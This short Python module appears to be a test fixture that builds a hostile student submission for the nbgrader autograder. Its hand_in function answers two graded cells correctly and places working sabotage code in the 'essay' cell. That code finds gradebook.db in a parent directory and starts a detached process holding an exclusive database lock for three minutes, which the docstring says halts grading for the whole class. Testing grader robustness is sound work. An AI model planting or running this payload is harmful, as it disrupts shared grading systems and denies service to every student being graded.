"""Takes the exclusive lock of gradebook.db from an orphan process and keeps it for three minutes: nbgrader gives up on the whole class at the first "database is locked"."""

STOCK = "stops"
MARKS = {"test-double": 1.0, "test-mean": 2.0}

CODE = """
def _lock():
    import os, subprocess, sys
    here = os.getcwd()
    while here != "/":
        here = os.path.dirname(here)
        path = os.path.join(here, "gradebook.db")
        if os.path.exists(path):
            subprocess.Popen([sys.executable, "-c",
                "import sqlite3, time\\n"
                "db = sqlite3.connect(%r, timeout=30, isolation_level=None)\\n"
                "db.execute('BEGIN EXCLUSIVE')\\n"
                "time.sleep(180)" % path], start_new_session=True,
                stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            import time; time.sleep(2)
            return
_lock()
"""


def hand_in(folder, cells, notebook):
    cells["double"].source = "def double(x):\n    return 2 * x"
    cells["mean"].source = "def mean(x):\n    return x.mean()"
    cells["essay"].source = CODE
    return notebook
